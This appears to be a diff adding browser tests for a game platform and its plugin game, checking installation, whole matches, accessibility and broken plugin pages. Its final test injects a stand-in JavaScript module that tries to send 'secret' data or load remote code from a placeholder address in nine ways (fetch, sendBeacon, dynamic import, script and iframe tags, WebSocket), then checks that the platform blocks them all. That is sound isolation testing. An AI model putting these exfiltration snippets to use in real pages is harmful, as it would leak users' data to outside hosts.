@@ -1,0 +1,303 @@
+"""A game in a package of its own with a page of its own: both installed from wheels, played in browsers, and broken in
+every way that a page can be.
+"""
+
+import os
+import re
+import socket
+import subprocess
+import sys
+import sysconfig
+import threading
+from pathlib import Path
+
+import pytest
+from people_in_browsers import House
+from playwright.sync_api import expect
+from tables import in_menu, on_shelf, order, result
+from test_access_axe import AXE, GRAVE
+
+ROOT = Path(__file__).parent.parent.parent
+BOTS = ({"kind": "me"}, {"kind": "bot", "level": "random"}, {"kind": "bot", "level": "random"})
+MOVES = 120  # that a match takes at most
+
+
+@pytest.fixture(scope="module")
+def installed(tmp_path_factory):
+    """A fresh environment with Parlor and Masked Ball from their wheels, and a package that cannot be imported. What
+    they depend on comes from the environment of this test.
+    """
+    folder = tmp_path_factory.mktemp("installed")
+    wheels, env = folder / "wheels", folder / "env"
+    clean = {name: value for name, value in os.environ.items() if name != "PYTHONPATH"}
+
+    def python(*command):
+        subprocess.run([sys.executable, "-m", *map(str, command)], env=clean, check=True)
+
+    sources = ROOT, ROOT / "examples" / "masked_ball"
+    python("pip", "wheel", "-q", "--no-deps", "--no-build-isolation", "--no-index", "-w", wheels, *sources)
+    python("venv", "--without-pip", env)
+    found = wheels.glob("*.whl")
+    python("pip", "--python", env / "bin" / "python", "install", "-q", "--no-deps", "--no-index", *found)
+    [packages] = env.glob("lib/python*/site-packages")
+    (packages / "dependencies.pth").write_text(sysconfig.get_path("purelib") + "\n")
+    ruin = packages / "ruin-1.dist-info"
+    ruin.mkdir()
+    (ruin / "METADATA").write_text("Metadata-Version: 2.1\nName: ruin\nVersion: 1\n")
+    (ruin / "entry_points.txt").write_text("[parlor.games]\nruin = ruin:game\n")
+    return env
+
+
+@pytest.fixture(scope="module")
+def installed_house(installed, tmp_path_factory):
+    house = House(tmp_path_factory.mktemp("house"), [str(installed / "bin" / "parlor")], without=("PYTHONPATH",))
+    yield house
+    house.kill()
+
+
+@pytest.fixture
+def house(installed_house):
+    return installed_house
+
+
+def test_parlor_and_the_game_come_from_their_wheels(installed):
+    code = "import masked_ball, parlor; print(masked_ball.__file__, parlor.__file__)"
+    done = subprocess.run([installed / "bin" / "python", "-I", "-c", code], capture_output=True, text=True, check=True)
+    assert all(path.startswith(str(installed)) for path in done.stdout.split())
+    [types] = installed.glob("lib/python*/site-packages/parlor/server/page/parlor-page.d.ts")
+    assert types.read_bytes() == (ROOT / "client" / "plugin" / "parlor-page.d.ts").read_bytes()
+
+
+# --- a whole match
+
+
+def invites(page):
+    """Order a match of Masked Ball on the page; gives the link."""
+    tile = on_shelf(page, "Masked Ball")
+    expect(tile).to_contain_text("Unmask the others before they unmask you.")
+    expect(tile).to_contain_text("5 min")
+    expect(page.get_by_role("link", name="ruin")).to_have_count(0)
+    tile.click()
+    page.get_by_text("A link", exact=True).click()
+    expect(page.get_by_text("Players", exact=True)).to_have_count(1)  # one control, not two
+    page.get_by_role("textbox", name="Your name").fill("Ada")
+    page.get_by_role("button", name="Get the link").click()
+    return page.get_by_role("textbox", name="Link to the free seat").input_value()
+
+
+def joins(page, link):
+    page.goto(link)
+    page.get_by_role("textbox", name="Your name").fill("Bob")
+    page.get_by_role("button", name="Sit down").click()
+
+
+def masks(page):
+    return page.get_by_role("region", name="Your masks").locator("button[aria-pressed]")
+
+
+def moves(page):
+    return page.get_by_label("What happened").locator("li")
+
+
+def lays_a_mask(page):
+    """Tap a mask, then a guest, then a guess, as far as they are asked for. The Lion only if there is nothing else."""
+    enabled = [mask for mask in masks(page).all() if mask.is_enabled()]
+    others = [mask for mask in enabled if "Lion" not in mask.inner_text()]
+    (others or enabled)[0].click()
+    aims = page.get_by_role("button", name=re.compile("^Aim the"))
+    lays = page.get_by_role("button", name=re.compile("^Lay down the"))
+    expect(aims.or_(lays).first).to_be_visible()
+    if lays.is_visible():
+        lays.click()
+        return
+    fox = "Aim the Fox" in aims.first.text_content()
+    aims.first.click()
+    if fox:
+        page.get_by_role("button", name=re.compile(r"\d left$")).first.click()
+
+
+def test_a_whole_match_through_the_games_own_page_in_two_browsers(person):
+    ada, bob = person(width=390, height=844, scheme="dark"), person()
+    joins(bob.page, invites(ada.opens("/")))
+    pages = (ada.page, bob.page)
+    for page in pages:
+        expect(masks(page).first).to_be_visible()
+        expect(page.get_by_role("heading", name=re.compile("Your turn|chooses a mask"))).to_be_visible()
+    ended = [result(page) for page in pages]
+    for move in range(MOVES):
+        for page, end in zip(pages, ended, strict=True):
+            expect(moves(page)).to_have_count(move)
+            expect(
+                page.get_by_role("heading", name=re.compile("Your turn|chooses a mask")).or_(end).first
+            ).to_be_visible()
+        if ended[0].is_visible():
+            break
+        [page] = [page for page in pages if page.get_by_role("heading", name="Your turn").is_visible()]
+        if move == 3:  # the page is loaded again in the middle of the match
+            page.reload()
+            expect(moves(page)).to_have_count(move)
+        expect(page.locator("[aria-label='Your masks'] button:enabled").first).to_be_visible()
+        lays_a_mask(page)
+    for end in ended:
+        expect(end).to_contain_text(re.compile("You win|You lose"))
+    said = {end.inner_text().split("\n")[0] for end in ended}
+    assert said == {"You win", "You lose"}
+    told = moves(bob.page).all_inner_texts()
+    assert any("Ada" in line for line in told)
+    assert not any("Player 1" in line for line in told)
+
+    ended[0].get_by_role("link", name="Replay").click()  # and the page shows it again
+    expect(ada.page.get_by_role("slider", name="Replay")).to_be_visible()
+    expect(moves(ada.page)).to_have_count(0)
+    ada.page.get_by_role("button", name="One forward").click()
+    expect(moves(ada.page)).to_have_count(1)
+
+
+@pytest.mark.parametrize(("width", "height", "scheme"), [(390, 844, "light"), (1440, 900, "dark")])
+def test_everybody_can_use_the_games_own_page(person, width, height, scheme):
+    ada = person(width=width, height=height, scheme=scheme)
+    page = ada.opens(f"/t/{order(ada, 'masked-ball', BOTS)['match']}")
+    masks(page).first.click()
+    page.evaluate(AXE.read_text("utf-8"))
+    assert page.evaluate(GRAVE) == []
+    assert page.evaluate("document.documentElement.scrollWidth") <= width
+    page.keyboard.press("Escape")  # and with a keyboard alone
+    expect(masks(page).first).to_have_attribute("aria-pressed", "false")
+    expect(masks(page).first).to_be_focused()
+
+
+def test_four_guests_of_whom_three_are_bots(person):
+    ada = person(width=1440, height=900)
+    page = ada.opens("/new/masked-ball")
+    for _ in range(2):
+        page.get_by_role("button", name="More: Players").click()
+    page.get_by_role("button", name="Start game").click()
+    expect(page.get_by_role("region", name="Guests").get_by_label("Bot (random)")).to_have_count(3)
+
+
+# --- pages that do not work
+
+BROKEN = {
+    "is missing": (None, "could not be loaded: The file /games/masked-ball/page.js is missing"),
+    "is no module": (
+        "const = 1",
+        "could not be loaded: The file /games/masked-ball/page.js is missing or cannot be read.",
+    ),
+    "has another version": ("export const api = 2; export function mount() {}", "version 2 of the interface"),
+    "throws at the start": (
+        "export const api = 1; export function mount() { throw new Error('no music') }",
+        "could not be loaded: It failed at the start (no music).",
+    ),
+    "throws later": (
+        """export const api = 1
+        export function mount(element, table) {
+          element.textContent = 'dancing'
+          return { update() { if (table.version) throw new Error('a false step') } }
+        }""",
+        "",
+    ),
+    "hangs": (
+        "export const api = 1; export const mount = () => new Promise(() => {})",
+        "could not be loaded: It did not start within 5 seconds.",
+    ),
+}
+
+
+def replaced(person, body):
+    """Somebody whose browser gets another module in place of the game's own."""
+    one = person(allow_errors=True)
+    answer = {"status": 404} if body is None else {"body": body, "content_type": "text/javascript"}
+    one.context.route("**/games/masked-ball/page.js", lambda route: route.fulfill(**answer))
+    return one
+
+
+@pytest.mark.parametrize("fault", BROKEN)
+def test_a_page_that_does_not_work_leaves_a_message_and_the_default_table(person, fault):
+    body, said = BROKEN[fault]
+    ada = replaced(person, body)
+    page = ada.opens(f"/t/{order(ada, 'masked-ball', BOTS)['match']}")
+    if fault == "throws later":
+        expect(page.get_by_text("dancing")).to_be_visible()
+        page.evaluate(RESIGN, page.url.rsplit("/", 1)[1])
+        expect(
+            page.get_by_role("status").filter(has_text="Masked Ball's page stopped with an error: a false step.")
+        ).to_be_visible()
+        expect(result(page)).to_be_visible()
+        return
+    expect(
+        page.get_by_role("status").filter(has_text="Masked Ball's page could not be loaded: ").filter(has_text=said)
+    ).to_be_visible()
+    expect(page.get_by_test_id("text")).to_contain_text("Your masks:")
+    region = page.get_by_role("region", name="Play")
+    for _ in range(4):  # a mask, a guest, a guess
+        if page.get_by_role("list", name="What happened").is_visible():
+            break
+        region.get_by_role("button").last.click()
+        page.wait_for_timeout(100)
+    expect(page.get_by_role("list", name="What happened").get_by_role("listitem").first).to_contain_text("Guest ")
+    in_menu(page, "How to play")  # everything else goes on
+    expect(page.get_by_role("heading", name="How to play Masked Ball")).to_be_visible()
+
+
+RESIGN = """async (match) => {
+  const socket = new WebSocket(location.origin.replace(/^http/, 'ws') + '/socket')
+  await new Promise((done) => {
+    socket.onmessage = ({ data }) => {
+      const reply = JSON.parse(data)
+      if (reply.t === 'hello') socket.send(JSON.stringify({ t: 'watch', match }))
+      if (reply.t === 'table') socket.send(JSON.stringify({ t: 'resign', match, seat: 0, id: 'enough' }))
+      if (reply.t === 'step') done()
+    }
+  })
+  socket.close()
+}"""
+
+
+def test_a_page_that_tries_to_reach_another_origin_reaches_nothing(person):
+    reached = []
+    with socket.create_server(("127.0.0.1", 0)) as other:
+        address = f"127.0.0.1:{other.getsockname()[1]}"
+
+        def listens():
+            while True:
+                try:
+                    reached.append(other.accept()[0])
+                except OSError:
+                    return
+
+        listener = threading.Thread(target=listens)
+        listener.start()
+        ada = replaced(person, REACHES.replace("ADDRESS", address))
+        page = ada.opens(f"/t/{order(ada, 'masked-ball', BOTS)['match']}")
+        expect(page.get_by_text("tried 9 ways")).to_be_visible()
+        page.wait_for_timeout(500)
+        other.shutdown(socket.SHUT_RDWR)
+        listener.join(5)
+    assert reached == []
+    ada.foreign.clear()  # what was tried and stopped is noted there too
+
+
+REACHES = """
+export const api = 1
+export async function mount(element) {
+  const http = 'http://ADDRESS/'
+  const tag = (name, props) => element.append(Object.assign(document.createElement(name), props))
+  const ways = [
+    () => fetch(http),
+    () => fetch(http, { method: 'POST', mode: 'no-cors', body: 'secret' }),
+    () => import(http + 'more.js'),
+    () => new WebSocket('ws://ADDRESS/'),
+    () => navigator.sendBeacon(http, 'secret'),
+    () => tag('img', { src: http + 'a.png' }),
+    () => tag('script', { src: http + 'a.js' }),
+    () => tag('link', { rel: 'stylesheet', href: http + 'a.css' }),
+    () => tag('iframe', { src: http }),
+  ]
+  let tried = 0
+  for (const way of ways) {
+    try { await way() } catch {}
+    tried++
+  }
+  element.append(`tried ${tried} ways`)
+}
+"""
